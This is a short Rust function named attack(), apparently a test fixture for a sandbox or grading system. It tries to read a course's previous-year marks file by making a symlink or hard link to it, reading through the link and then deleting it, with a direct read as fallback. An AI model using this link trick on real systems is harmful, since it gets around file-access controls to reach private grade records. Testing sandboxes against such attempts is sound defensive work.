pub fn attack() -> std::io::Result<Option<String>> {
    let marks = std::fs::canonicalize("@course@/last-year/marks.csv")?;
    if std::os::unix::fs::symlink(&marks, "notes").is_ok() || std::fs::hard_link(&marks, "notes").is_ok() {
        let text = std::fs::read_to_string("notes");
        std::fs::remove_file("notes")?;
        return text.map(Some);
    }
    std::fs::read_to_string(marks).map(Some)
}
